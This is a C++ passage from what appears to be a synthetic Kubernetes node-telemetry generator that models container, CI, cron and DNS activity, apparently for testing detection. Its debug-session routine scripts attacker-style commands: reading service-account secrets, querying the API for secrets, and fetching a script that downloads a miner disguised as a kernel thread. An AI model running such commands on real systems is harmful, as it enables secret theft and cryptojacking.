void Generator::lookup(ProcRef proc, const std::string& name, const std::string& addr, uint64_t t) {
    const auto id = static_cast<uint16_t>(rng_.below(65536));
    DnsEvent q;
    q.time_ns = t;
    q.proc = proc;
    q.sent = true;
    q.family = 4;
    q.saddr = fmt::format("10.244.{}.{}", rng_.below(8), 2 + rng_.below(250));
    q.sport = static_cast<uint16_t>(rng_.between(32768, 60999));
    q.daddr = "10.96.0.10";
    q.dport = 53;
    q.message = dns_message(id, name, "");
    q.length = static_cast<uint32_t>(q.message.size());
    DnsEvent a = q;
    a.time_ns = t + rng_.between(100'000, 1'500'000);
    a.sent = false;
    std::swap(a.saddr, a.daddr);
    std::swap(a.sport, a.dport);
    a.message = dns_message(id, name, addr);
    a.length = static_cast<uint32_t>(a.message.size());
    if (writer_) {
        check(writer_->add(q, ""));
        check(writer_->add(a, ""));
    }
    stats.dns_rows += 2;
    auto& [count, last] = picks.names[name];
    ++count;
    last = wall(t);
}

void Generator::membership(const ProcPtr& p, MembershipHow how, uint64_t t, const Proc* by) {
    const Context& c = contexts_[static_cast<size_t>(p->ctx)];
    if (c.pod < 0 || !recording_) return;
    const size_t ctx = static_cast<size_t>(p->ctx);
    if (cgroup_written_.size() <= ctx) cgroup_written_.resize(contexts_.size(), false);
    if (!cgroup_written_[ctx]) {
        cgroup_written_[ctx] = true;
        if (writer_) check(writer_->add_cgroup(CgroupRow{0, c.cgroup_id, c.cgroup_path, c.pod_uid, c.container_id}));
        ++stats.cgroups_rows;
    }
    MembershipRow row;
    row.time_ns = static_cast<int64_t>(t);
    row.proc = {p->tgid, p->start_ns};
    row.nspid = p->nspid;
    row.how = how;
    row.cgroup_id = c.cgroup_id;
    row.pod_uid = c.pod_uid;
    row.uts_ns = how == MembershipHow::exec ? 4026532000u + static_cast<uint32_t>(c.pod) : 0u;
    if (by) row.by = {by->tgid, by->start_ns};
    row.comm = p->comm;
    if (writer_) check(writer_->add_membership(row));
    ++stats.membership_rows;
    name_pod(c.pod);
    PodMembers& pod = members_[static_cast<size_t>(c.pod)];
    pod.live[p->tgid] = p;
    if (++pod.rows_since_alive < std::max<size_t>(256, pod.live.size())) return;
    pod.rows_since_alive = 0;
    for (const auto& [tgid, m] : pod.live) {
        const Context& mc = contexts_[static_cast<size_t>(m->ctx)];
        MembershipRow alive;
        alive.time_ns = static_cast<int64_t>(t);
        alive.proc = {m->tgid, m->start_ns};
        alive.nspid = m->nspid;
        alive.how = MembershipHow::alive;
        alive.cgroup_id = mc.cgroup_id;
        alive.pod_uid = mc.pod_uid;
        alive.comm = m->comm;
        if (writer_) check(writer_->add_membership(alive));
        ++stats.membership_rows;
    }
}

void Generator::forget_member(const Proc& p) {
    const Context& c = contexts_[static_cast<size_t>(p.ctx)];
    if (c.pod < 0 || static_cast<size_t>(c.pod) >= members_.size()) return;
    auto& live = members_[static_cast<size_t>(c.pod)].live;
    auto it = live.find(p.tgid);
    if (it != live.end() && it->second.get() == &p) live.erase(it);
}

// --- activity builders ------------------------------------------------------

ExecImg img(uint64_t delay, std::string binary, std::string argv) {
    return ExecImg{delay, std::move(binary), std::move(argv)};
}

std::string sandbox_ctx_path(const Pod& p, const std::string& container_id) {
    std::string uid = p.uid;
    std::replace(uid.begin(), uid.end(), '-', '_');
    std::string qos_slice = p.qos.empty() ? "" : "/kubepods-" + p.qos + ".slice";
    std::string pod_slice =
        p.qos.empty() ? "kubepods-pod" + uid + ".slice" : "kubepods-" + p.qos + "-pod" + uid + ".slice";
    return "/kubepods.slice" + qos_slice + "/" + pod_slice + "/cri-containerd-" + container_id + ".scope";
}

const char kShim[] = "/usr/bin/containerd-shim-runc-v2";
const char kRunc[] = "/usr/bin/runc";

ActivityPtr Generator::sandbox_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    a->anchor = containerd_;
    a->pod = pod;
    std::string sandbox = rng_.hex(64);
    p.pause_ctx = new_context(sandbox_ctx_path(p, sandbox), p.name, pod, true);
    int shim1 = a->add(-1, 0, 9 * kMs, ctx_containerd_, 0,
                       {img(300'000, kShim,
                            argv_of({kShim, "-namespace", "k8s.io", "-address", "/run/containerd/containerd.sock",
                                     "-publish-binary", "/usr/bin/containerd", "-id", sandbox, "start"}))});
    int shim2 = a->add(
        shim1, 3 * kMs, kForever, ctx_containerd_, 0,
        {img(300'000, kShim,
             argv_of({kShim, "-namespace", "k8s.io", "-id", sandbox, "-address", "/run/containerd/containerd.sock"}))});
    a->nodes[static_cast<size_t>(shim2)].role = kRoleShim;
    std::string bundle = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + sandbox;
    int runc = a->add(
        shim2, 20 * kMs, 80 * kMs, ctx_containerd_, 0,
        {img(200'000, kRunc,
             argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json", "--log-format",
                      "json", "create", "--bundle", bundle, "--pid-file", bundle + "/init.pid", sandbox}))});
    int pause = a->add(runc, 10 * kMs, kForever, p.pause_ctx, 65535,
                       {img(200'000, kRunc, argv_of({"runc", "init"})), img(40 * kMs, "/pause", argv_of({"/pause"}))});
    a->nodes[static_cast<size_t>(pause)].role = kRolePause;
    return a;
}

// runc create + the container's main process (and its prefork workers),
// forked by the pod's shim.
ActivityPtr Generator::container_activity(int pod, int container, int ctx, uint64_t at) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    a->anchor = p.shim;
    a->pod = pod;
    const std::string cid = contexts_[static_cast<size_t>(ctx)].cgroup_path.substr(
        contexts_[static_cast<size_t>(ctx)].cgroup_path.rfind('-') + 1, 64);
    std::string bundle = "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + cid;
    int runc = a->add(
        -1, at, 90 * kMs, ctx_containerd_, 0,
        {img(200'000, kRunc,
             argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "--log", bundle + "/log.json", "--log-format",
                      "json", "create", "--bundle", bundle, "--pid-file", bundle + "/init.pid", cid}))});
    AppImage app =
        container == 0
            ? p.app
            : AppImage{"/usr/local/bin/fluent-bit", {"-c", "/fluent-bit/etc/fluent-bit.conf"}, 0, "", "", 2020};
    std::vector<std::string> args = {app.binary};
    args.insert(args.end(), app.args.begin(), app.args.end());
    uint64_t life = kForever;
    int code = 0, sig = 0;
    if (p.kind == PodKind::job) {
        life = p.depart > p.arrive + 10 * kSec ? (p.depart - p.arrive) - 5 * kSec : 5 * kSec;
    } else if (p.kind == PodKind::crashloop) {
        life = rng_.between(5 * kSec, 4 * kMin);
        if (rng_.chance(0.3)) {
            sig = 9;  // OOM-killed
        } else {
            code = 1;
        }
    }
    int main = a->add(runc, 12 * kMs, life, ctx, p.kind == PodKind::debug ? 0 : 1000,
                      {img(200'000, kRunc, argv_of({"runc", "init"})), img(35 * kMs, app.binary, argv_of(args))});
    Node& m = a->nodes[static_cast<size_t>(main)];
    m.role = kRoleMain;
    m.container = container;
    m.code = code;
    m.sig = sig;
    if (life != kForever && p.kind == PodKind::crashloop) {
        // Crash loops also print and exit through a shell wrapper sometimes.
        m.connects = 1;
        m.daddr = fmt::format("10.96.{}.{}", rng_.below(256), rng_.below(256));
        m.dport = 5432;
    }
    for (int w = 0; w < app.workers; ++w) {
        int wk = a->add(main, 1500 * kMs + static_cast<uint64_t>(w) * 7 * kMs, life == kForever ? kForever : life / 2,
                        ctx, 1000, {});
        a->nodes[static_cast<size_t>(wk)].role = kRoleWorker;
        a->nodes[static_cast<size_t>(wk)].container = container;
    }
    return a;
}

ActivityPtr Generator::probe_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    a->anchor = p.shim;
    a->pod = pod;
    int ctx = p.container_ctx[0];
    const std::string cid = contexts_[static_cast<size_t>(ctx)].cgroup_path.substr(
        contexts_[static_cast<size_t>(ctx)].cgroup_path.rfind('-') + 1, 64);
    int runc = a->add(
        -1, 0, 70 * kMs, ctx_containerd_, 0,
        {img(200'000, kRunc,
             argv_of(
                 {"runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
                  "/tmp/runc-process" + std::to_string(rng_.between(100000000, 999999999)), "--detach", "--pid-file",
                  "/run/containerd/io.containerd.runtime.v2.task/k8s.io/" + cid + "/" + rng_.hex(64) + ".pid", cid}))});
    int sh = a->add(runc, 9 * kMs, 45 * kMs, ctx, 1000,
                    {img(200'000, kRunc, argv_of({"runc", "init"})),
                     img(6 * kMs, "/bin/sh", argv_of({"/bin/sh", "-c", p.app.probe}))});
    std::string tool_args = p.app.probe;
    std::vector<std::string> args;
    size_t pos = 0;
    while (pos <= tool_args.size()) {
        size_t sp = tool_args.find(' ', pos);
        if (sp == std::string::npos) sp = tool_args.size();
        args.push_back(tool_args.substr(pos, sp - pos));
        pos = sp + 1;
    }
    args[0] = p.app.probe_tool;
    int tool = a->add(sh, 9 * kMs, 25 * kMs, ctx, 1000, {img(250'000, p.app.probe_tool, argv_of(args))});
    if (p.app.port != 0 && p.app.probe_tool != "/bin/cat") {
        a->nodes[static_cast<size_t>(tool)].connects = 1;
        a->nodes[static_cast<size_t>(tool)].daddr = "127.0.0.1";
        a->nodes[static_cast<size_t>(tool)].dport = p.app.port;
    }
    return a;
}

ActivityPtr Generator::app_job_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    // Anchor: the main process of the first container.
    for (const auto& [c, proc] : p.forever) {
        if (c == 0 && proc->ctx == p.container_ctx[0] && proc->alive && proc != p.shim) {
            a->anchor = proc;
            break;
        }
    }
    a->pod = pod;
    int ctx = p.container_ctx[0];
    static const std::vector<std::vector<std::string>> jobs = {
        {"/usr/bin/git", "-C", "/srv/repo", "fetch", "--prune", "origin"},
        {"/usr/bin/curl", "-sS", "-X", "POST", "http://10.96.14.2:8080/api/v1/reindex"},
        {"/usr/local/bin/aws", "s3", "cp", "/tmp/export.csv.gz", "s3://reports-prod/daily/"},
        {"/usr/bin/psql", "-h", "10.96.0.40", "-U", "app", "-c", "VACUUM ANALYZE orders"},
        {"/usr/bin/convert", "/tmp/upload/img.png", "-resize", "256x256", "/tmp/thumb/img.png"},
        {"/usr/bin/python3", "/app/scripts/rotate_keys.py", "--dry-run"},
    };
    const auto& job = rng_.pick(jobs);
    std::string cmd;
    for (const auto& s : job) cmd += (cmd.empty() ? "" : " ") + s;
    uint64_t life = rng_.between(40 * kMs, 8 * kSec);
    int sh = a->add(-1, 0, life + 20 * kMs, ctx, 1000, {img(300'000, "/bin/sh", argv_of({"/bin/sh", "-c", cmd}))});
    // Half of them run in a subshell, which never execs: sh -c '( cd /tmp && job )'.
    int runner = sh;
    if (rng_.chance(0.5)) runner = a->add(sh, 1 * kMs, life + 10 * kMs, ctx, 1000, {});
    int tool = a->add(runner, 3 * kMs, life, ctx, 1000, {img(300'000, job[0], argv_of(job))});
    if (job[0] != "/usr/bin/convert" && job[0] != "/usr/bin/python3") {
        Node& t = a->nodes[static_cast<size_t>(tool)];
        t.connects = 1;
        t.daddr = job[0] == "/usr/local/bin/aws" ? "52.219.170.13" : "10.96.0.40";
        t.dport = job[0] == "/usr/bin/psql" ? 5432 : 443;
    }
    if (job[0] == "/usr/bin/git") {
        int remote = a->add(tool, 5 * kMs, life / 2, ctx, 1000,
                            {img(200'000, "/usr/lib/git-core/git-remote-https",
                                 argv_of({"git-remote-https", "origin", "https://git.internal/app/repo.git"}))});
        Node& r = a->nodes[static_cast<size_t>(remote)];
        r.connects = 1;
        r.daddr = "10.30.1.5";
        r.dport = 443;
    }
    return a;
}

// make [-C dir] with `units` compile units and maybe sub-makes; returns the
// duration of the make process.
uint64_t Generator::build_make(Activity& a, int parent, uint64_t at, int ctx, int depth, int units) {
    std::vector<std::string> margs = {"make", "-j2"};
    if (depth > 2) {
        margs.push_back("-C");
        margs.push_back(fmt::format("src/mod{}", rng_.below(40)));
    }
    int make = a.add(parent, at, 0, ctx, 1000, {img(300'000, "/usr/bin/make", argv_of(margs))});
    uint64_t lane[2] = {2 * kMs, 2 * kMs};
    int subs = (depth < 6 && units > 12) ? static_cast<int>(rng_.between(1, 3)) : 0;
    for (int s = 0; s < subs; ++s) {
        int share = units / (subs + 1);
        units -= share;
        uint64_t d = build_make(a, make, lane[0], ctx, depth + 1, share);
        lane[0] += d + 1 * kMs;
        lane[1] = std::max(lane[1], lane[0]);
    }
    for (int u = 0; u < units; ++u) {
        int l = lane[0] <= lane[1] ? 0 : 1;
        std::string src = fmt::format("src/{}/{}.c", rng_.alnum(6), rng_.alnum(8));
        std::string obj = src.substr(0, src.size() - 2) + ".o";
        std::string gcc_cmd = "gcc -O2 -g -Wall -Iinclude -c " + src + " -o " + obj;
        uint64_t compile = rng_.log_uniform(80 * kMs, 3 * kSec);
        int sh = a.add(make, lane[l], compile + 8 * kMs, ctx, 1000,
                       {img(250'000, "/bin/sh", argv_of({"/bin/sh", "-c", gcc_cmd}))});
        int gcc = a.add(
            sh, 2 * kMs, compile + 4 * kMs, ctx, 1000,
            {img(250'000, "/usr/bin/gcc", argv_of({"gcc", "-O2", "-g", "-Wall", "-Iinclude", "-c", src, "-o", obj}))});
        a.add(
            gcc, 1 * kMs, compile * 3 / 4, ctx, 1000,
            {img(200'000, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
                 argv_of({"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "-Iinclude", src, "-quiet", "-dumpbase",
                          comm_of(src), "-mtune=generic", "-march=x86-64", "-O2", "-Wall", "-o", "/tmp/ccA1b2C3.s"}))});
        a.add(gcc, compile * 3 / 4 + 2 * kMs, compile / 4, ctx, 1000,
              {img(200'000, "/usr/bin/as", argv_of({"as", "--64", "-o", obj, "/tmp/ccA1b2C3.s"}))});
        lane[l] += compile + 10 * kMs;
    }
    uint64_t end = std::max(lane[0], lane[1]);
    if (depth == 1) {
        // The final link: gcc -> collect2 -> ld.
        uint64_t link = rng_.between(200 * kMs, 2 * kSec);
        int gcc = a.add(make, end, link + 5 * kMs, ctx, 1000,
                        {img(250'000, "/usr/bin/gcc", argv_of({"gcc", "-o", "build/app", "obj/*.o", "-lpthread"}))});
        int collect = a.add(gcc, 2 * kMs, link, ctx, 1000,
                            {img(200'000, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2",
                                 argv_of({"/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "-plugin", "--eh-frame-hdr",
                                          "-m", "elf_x86_64", "-o", "build/app"}))});
        a.add(collect, 2 * kMs, link - 4 * kMs, ctx, 1000,
              {img(200'000, "/usr/bin/ld",
                   argv_of({"/usr/bin/ld", "--eh-frame-hdr", "-m", "elf_x86_64", "-o", "build/app"}))});
        end += link + 10 * kMs;
    }
    a.nodes[static_cast<size_t>(make)].life = end + 5 * kMs;
    return end + 5 * kMs;
}

ActivityPtr Generator::ci_build_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    for (const auto& [c, proc] : p.forever) {
        if (proc->ctx == p.container_ctx[0] && proc->alive && proc != p.shim) {
            a->anchor = proc;
            break;
        }
    }
    a->pod = pod;
    int ctx = p.container_ctx[0];
    int bash = a->add(
        -1, 0, 0, ctx, 1000,
        {img(300'000, "/bin/bash", argv_of({"/bin/bash", "-c", "set -eo pipefail; ./ci/build.sh && ./ci/test.sh"}))});
    int git = a->add(
        bash, 5 * kMs, 0, ctx, 1000,
        {img(300'000, "/usr/bin/git", argv_of({"git", "fetch", "--depth", "50", "origin", "+refs/heads/main"}))});
    uint64_t fetch = rng_.between(300 * kMs, 4 * kSec);
    int remote = a->add(git, 4 * kMs, fetch, ctx, 1000,
                        {img(200'000, "/usr/lib/git-core/git-remote-https",
                             argv_of({"git-remote-https", "origin", "https://gitlab.internal/group/project.git"}))});
    a->nodes[static_cast<size_t>(remote)].connects = 1;
    a->nodes[static_cast<size_t>(remote)].daddr = "10.30.1.7";
    a->nodes[static_cast<size_t>(remote)].dport = 443;
    a->nodes[static_cast<size_t>(git)].life = fetch + 10 * kMs;
    uint64_t t = fetch + 20 * kMs;
    int build = a->add(bash, t, 0, ctx, 1000, {img(300'000, "/bin/bash", argv_of({"/bin/bash", "./ci/build.sh"}))});
    int units = static_cast<int>(rng_.log_uniform(5, 120));
    uint64_t d = build_make(*a, build, 5 * kMs, ctx, 1, units);
    a->nodes[static_cast<size_t>(build)].life = d + 10 * kMs;
    t += d + 20 * kMs;
    int test = a->add(bash, t, 0, ctx, 1000, {img(300'000, "/bin/bash", argv_of({"/bin/bash", "./ci/test.sh"}))});
    uint64_t tt = 5 * kMs;
    int ntests = static_cast<int>(rng_.between(2, 12));
    for (int i = 0; i < ntests; ++i) {
        uint64_t run = rng_.log_uniform(20 * kMs, 2 * kSec);
        a->add(test, tt, run, ctx, 1000,
               {img(300'000, fmt::format("./build/test_{}", rng_.alnum(6)),
                    argv_of({fmt::format("./build/test_{}", rng_.alnum(6)), "--gtest_brief=1"}))});
        tt += run + 3 * kMs;
    }
    a->nodes[static_cast<size_t>(test)].life = tt + 5 * kMs;
    t += tt + 10 * kMs;
    a->nodes[static_cast<size_t>(bash)].life = t + 5 * kMs;
    return a;
}

ActivityPtr Generator::job_step_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    for (const auto& [c, proc] : p.forever) {
        if (proc->ctx == p.container_ctx[0] && proc->alive && proc != p.shim) {
            a->anchor = proc;
            break;
        }
    }
    if (!a->anchor) {
        // Job mains are not kept in `forever`; find the live main by context.
        for (const auto& [pid, proc] : live_) {
            if (proc->ctx == p.container_ctx[0] && proc->parent && proc->parent->ctx == ctx_containerd_) {
                a->anchor = proc;
                break;
            }
        }
    }
    a->pod = pod;
    int ctx = p.container_ctx[0];
    static const std::vector<std::vector<std::string>> steps = {
        {"/usr/bin/python3", "/scripts/extract.py", "--since", "yesterday"},
        {"/usr/bin/psql", "-h", "10.96.0.40", "-f", "/scripts/load.sql"},
        {"/usr/local/bin/aws", "s3", "sync", "/data/out", "s3://etl-prod/out/"},
        {"/bin/gzip", "-9", "/data/out/part.csv"},
        {"/usr/bin/sort", "-u", "-o", "/data/out/ids.txt", "/data/in/ids.txt"},
    };
    const auto& step = rng_.pick(steps);
    uint64_t life = rng_.log_uniform(50 * kMs, 20 * kSec);
    int tool = a->add(-1, 0, life, ctx, 1000, {img(300'000, step[0], argv_of(step))});
    if (step[0] == "/usr/bin/psql" || step[0] == "/usr/local/bin/aws") {
        Node& t = a->nodes[static_cast<size_t>(tool)];
        t.connects = step[0] == "/usr/local/bin/aws" ? 3 : 1;
        t.daddr = step[0] == "/usr/bin/psql" ? "10.96.0.40" : "52.219.170.13";
        t.dport = step[0] == "/usr/bin/psql" ? 5432 : 443;
    }
    return a;
}

ActivityPtr Generator::debug_session_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    a->anchor = p.shim;
    a->pod = pod;
    int ctx = p.container_ctx[0];
    const std::string cid = contexts_[static_cast<size_t>(ctx)].cgroup_path.substr(
        contexts_[static_cast<size_t>(ctx)].cgroup_path.rfind('-') + 1, 64);
    uint64_t session = rng_.log_uniform(1 * kMin, 30 * kMin);
    int runc = a->add(-1, 0, session + 100 * kMs, ctx_containerd_, 0,
                      {img(200'000, kRunc,
                           argv_of({"runc", "--root", "/run/containerd/runc/k8s.io", "exec", "--process",
                                    "/tmp/runc-process" + std::to_string(rng_.between(100000000, 999999999)),
                                    "--console-socket", "/tmp/pty.sock", "--detach", cid}))});
    int bash =
        a->add(runc, 9 * kMs, session, ctx, 0,
               {img(200'000, kRunc, argv_of({"runc", "init"})), img(6 * kMs, "/bin/bash", argv_of({"/bin/bash"}))});
    static const std::vector<std::vector<std::string>> cmds = {
        {"/bin/ls", "-la", "/var/run/secrets/kubernetes.io/serviceaccount"},
        {"/bin/cat", "/etc/resolv.conf"},
        {"/bin/ps", "aux"},
        {"/usr/bin/env"},
        {"/usr/bin/curl", "-sk", "https://10.96.0.1:443/api/v1/namespaces/default/secrets"},
        {"/usr/bin/wget", "-q", "http://203.0.113.50/x.sh", "-O", "/tmp/x.sh"},
        {"/bin/chmod", "+x", "/tmp/x.sh"},
        {"/usr/bin/nslookup", "kubernetes.default"},
        {"/bin/netstat", "-tlnp"},
        {"/usr/bin/id"},
    };
    uint64_t t = 2 * kSec;
    int n = static_cast<int>(rng_.between(3, 25));
    for (int i = 0; i < n && t < session; ++i) {
        const auto& cmd = rng_.pick(cmds);
        uint64_t life = rng_.between(5 * kMs, 900 * kMs);
        int c = a->add(bash, t, life, ctx, 0, {img(250'000, cmd[0], argv_of(cmd))});
        if (cmd[0] == "/usr/bin/curl" || cmd[0] == "/usr/bin/wget") {
            Node& nd = a->nodes[static_cast<size_t>(c)];
            nd.connects = 1;
            nd.daddr = cmd[0] == "/usr/bin/curl" ? "10.96.0.1" : "203.0.113.50";
            nd.dport = cmd[0] == "/usr/bin/curl" ? 443 : 80;
        }
        if (cmd[0] == "/bin/chmod" && rng_.chance(0.7)) {
            // ./x.sh: a script that fetches and starts more.
            uint64_t run = rng_.between(1 * kSec, 20 * kSec);
            int sh =
                a->add(bash, t + life + 1 * kSec, run, ctx, 0, {img(250'000, "/bin/sh", argv_of({"sh", "/tmp/x.sh"}))});
            int w = a->add(sh, 10 * kMs, run / 3, ctx, 0,
                           {img(250'000, "/usr/bin/wget",
                                argv_of({"wget", "-q", "http://203.0.113.50/kworker", "-O", "/tmp/.kw"}))});
            a->nodes[static_cast<size_t>(w)].connects = 1;
            a->nodes[static_cast<size_t>(w)].daddr = "203.0.113.50";
            a->nodes[static_cast<size_t>(w)].dport = 80;
            int k = a->add(sh, run / 3 + 20 * kMs, run / 2, ctx, 0,
                           {img(200'000, "/tmp/.kw", argv_of({"[kworker/0:2]", "-o", "pool.example.net:3333"}))});
            a->nodes[static_cast<size_t>(k)].connects = 2;
            a->nodes[static_cast<size_t>(k)].daddr = "198.51.100.23";
            a->nodes[static_cast<size_t>(k)].dport = 3333;
            t += run + 1 * kSec;
        }
        t += life + rng_.between(1 * kSec, 40 * kSec);
    }
    return a;
}

ActivityPtr Generator::cron_activity() {
    auto a = std::make_shared<Activity>();
    a->anchor = cron_;
    static const std::vector<std::vector<std::string>> jobs = {
        {"/usr/lib/sysstat/debian-sa1", "1", "1"},
        {"/usr/sbin/logrotate", "/etc/logrotate.conf"},
        {"/usr/bin/find", "/var/log/pods", "-name", "*.gz", "-mtime", "+7", "-delete"},
        {"/usr/local/bin/node-exporter-textfile.sh"},
        {"/usr/bin/crictl", "rmi", "--prune"},
    };
    const auto& job = rng_.pick(jobs);
    std::string cmd;
    for (const auto& s : job) cmd += (cmd.empty() ? "" : " ") + s;
    uint64_t life = rng_.log_uniform(10 * kMs, 5 * kSec);
    // cron forks a child of itself (no exec), which runs the shell.
    int child = a->add(-1, 0, life + 30 * kMs, ctx_cron_, 0, {});
    int sh = a->add(child, 2 * kMs, life + 15 * kMs, ctx_cron_, 0,
                    {img(300'000, "/bin/sh", argv_of({"/bin/sh", "-c", cmd}))});
    int tool = a->add(sh, 3 * kMs, life, ctx_cron_, 0, {img(300'000, job[0], argv_of(job))});
    if (job[0] == "/usr/lib/sysstat/debian-sa1") {
        a->add(tool, 2 * kMs, life / 2, ctx_cron_, 0,
               {img(300'000, "/usr/lib/sysstat/sadc",
                    argv_of({"/usr/lib/sysstat/sadc", "-F", "-L", "-S", "DISK", "1", "1", "/var/log/sysstat"}))});
    }
    return a;
}

ActivityPtr Generator::kubelet_mount_activity(int pod) {
    const Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    a->anchor = kubelet_;
    std::string target =
        "/var/lib/kubelet/pods/" + p.uid + "/volumes/kubernetes.io~projected/kube-api-access-" + rng_.alnum(5);
    a->add(-1, 0, 4 * kMs, ctx_kubelet_, 0,
           {img(200'000, "/usr/bin/mount", argv_of({"mount", "-t", "tmpfs", "-o", "size=16G", "tmpfs", target}))});
    return a;
}

// The node-health loop's check: a subshell of the pod's shell, which never
// execs; one in ten connects (the port is open then).
ActivityPtr Generator::health_check_activity(int pod) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    auto a = std::make_shared<Activity>();
    for (const auto& [c, proc] : p.forever) {
        if (c == 0 && proc->ctx == p.container_ctx[0] && proc->alive && proc != p.shim) {
            a->anchor = proc;
            break;
        }
    }
    a->pod = pod;
    a->fixed = true;
    int sub = a->add(-1, 0, rng_.between(1 * kMs, 3 * kMs), p.container_ctx[0], 0, {});
    if (rng_.chance(0.1)) {
        Node& n = a->nodes[static_cast<size_t>(sub)];
        n.connects = 1;
        n.daddr = "127.0.0.1";
        n.dport = 10248;
    }
    return a;
}

// --- pods and host ------------------------------------------------------

// Mean intervals of the calibrated activities, at scale 1.
constexpr double kProbeEvery = 20.0 * kMin;
constexpr double kAppJobEvery = 3.0 * kHour;
constexpr double kCiBuildEvery = 90.0 * kMin;
constexpr double kJobStepEvery = 20.0 * kSec;
constexpr double kDebugSessionEvery = 30.0 * kMin;
constexpr double kCronEvery = 3.0 * kMin;
// The node-health loop's period: part of the pod's lifecycle, not calibrated.
constexpr uint64_t kHealthEvery = 15 * kSec;
// The least scale the calibration sets.
constexpr double kMinScale = 0.01;

void Generator::pod_start(int pod, uint64_t t) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    p.alive = true;
    p.forever.clear();
    p.container_ctx.clear();
    p.shim.reset();
    auto mount = kubelet_mount_activity(pod);
    mount->fixed = true;
    launch(mount, t);
    auto sandbox = sandbox_activity(pod);
    sandbox->fixed = true;
    launch(sandbox, t + 300 * kMs);
    for (int c = 0; c < p.containers; ++c) {
        p.container_ctx.push_back(new_context(sandbox_ctx_path(p, rng_.hex(64)), p.name, pod, true));
    }
    // The app containers start once the shim lives (pod_tick 100 does it).
    push(t + 1 * kSec, Act::pod_tick, nullptr, pod, 100);
    auto arm = [&](int which, double every) {
        push(t + 5 * kSec + rng_.exp_ns(every / scale_), Act::pod_tick, nullptr, pod, which);
    };
    switch (p.kind) {
        case PodKind::service:
            if (!p.app.probe.empty()) arm(0, kProbeEvery);
            arm(1, kAppJobEvery);
            break;
        case PodKind::job:
            arm(3, kJobStepEvery);
            break;
        case PodKind::ci:
            arm(2, kCiBuildEvery);
            break;
        case PodKind::crashloop:
            break;
        case PodKind::debug:
            arm(4, kDebugSessionEvery);
            break;
        case PodKind::daemon:
            push(t + 20 * kSec, Act::pod_tick, nullptr, pod, 5);
            break;
    }
}

void Generator::pod_tick(int pod, int which, uint64_t t) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    if (!p.alive) return;
    if (!p.shim || !p.shim->alive) {
        if (which == 100) push(t + 1 * kSec, Act::pod_tick, nullptr, pod, 100);  // wait for the shim
        return;
    }
    if (which == 100) {
        for (int c = 0; c < p.containers; ++c) {
            auto a = container_activity(pod, c, p.container_ctx[static_cast<size_t>(c)],
                                        400 * kMs * static_cast<uint64_t>(c));
            a->fixed = true;
            launch(a, t);
        }
        if (p.kind == PodKind::crashloop) push(t + 10 * kSec, Act::pod_tick, nullptr, pod, 101);
        return;
    }
    if (which == 101) {
        // Crash loop: a new container once the last one died, with back-off.
        bool running = false;
        for (const auto& [pid, proc] : live_) {
            if (proc->ctx == p.container_ctx[0] && proc->alive) running = true;
        }
        if (!running) {
            ++p.restarts;
            p.container_ctx[0] = new_context(sandbox_ctx_path(p, rng_.hex(64)), p.name, pod, true);
            launch(container_activity(pod, 0, p.container_ctx[0], 0), t);
            note_pod_activity(pod, t);
        }
        uint64_t backoff = std::min<uint64_t>(5 * kMin, 10 * kSec << std::min(p.restarts, 5));
        push(t + static_cast<uint64_t>(static_cast<double>(backoff) / std::max(scale_, 0.05)), Act::pod_tick, nullptr,
             pod, 101);
        return;
    }
    ActivityPtr a;
    double every = 0;
    switch (which) {
        case 0:
            a = probe_activity(pod);
            every = kProbeEvery;
            break;
        case 1:
            a = app_job_activity(pod);
            every = kAppJobEvery;
            break;
        case 2:
            a = ci_build_activity(pod);
            every = kCiBuildEvery;
            break;
        case 3:
            a = job_step_activity(pod);
            every = kJobStepEvery;
            break;
        case 4:
            a = debug_session_activity(pod);
            every = kDebugSessionEvery;
            break;
        case 5:
            a = health_check_activity(pod);
            if (a->anchor) launch(a, t);
            push(t + kHealthEvery, Act::pod_tick, nullptr, pod, 5);
            return;
        default:
            return;
    }
    if (a && a->anchor) launch(a, t);
    push(t + rng_.exp_ns(every / scale_), Act::pod_tick, nullptr, pod, which);
}

void Generator::pod_end(int pod, uint64_t t) {
    Pod& p = pods_[static_cast<size_t>(pod)];
    if (!p.alive) return;
    p.alive = false;
    // SIGTERM to the containers, then the sandbox, then the shim exits.
    uint64_t at = t;
    for (auto it = p.forever.rbegin(); it != p.forever.rend(); ++it) {
        const ProcPtr& proc = it->second;
        if (proc == p.shim) continue;
        at += rng_.between(1 * kMs, 30 * kMs);
        push(at, Act::exit, nullptr, 0, 15, proc);
    }
    for (const auto& [pid, proc] : live_) {
        const Context& c = contexts_[static_cast<size_t>(proc->ctx)];
        if (c.pod == pod) {
            at += 1 * kMs;
            push(at, Act::exit, nullptr, 0, 9, proc);
        }
    }
    if (p.shim) push(at + 800 * kMs, Act::exit, nullptr, 0, 0, p.shim);
}

void Generator::host_tick(int which, uint64_t t) {
    if (which == 0) {
        launch(cron_activity(), t);
        push(t + rng_.exp_ns(kCronEvery / scale_), Act::host_tick, nullptr, 0);
    }
}

void Generator::write_snapshot(uint64_t t) {
    std::vector<int> snapshot_pods;
    for (const auto& [pid, p] : live_) {
        const Context& c = contexts_[static_cast<size_t>(p->ctx)];
        SnapshotRow row;
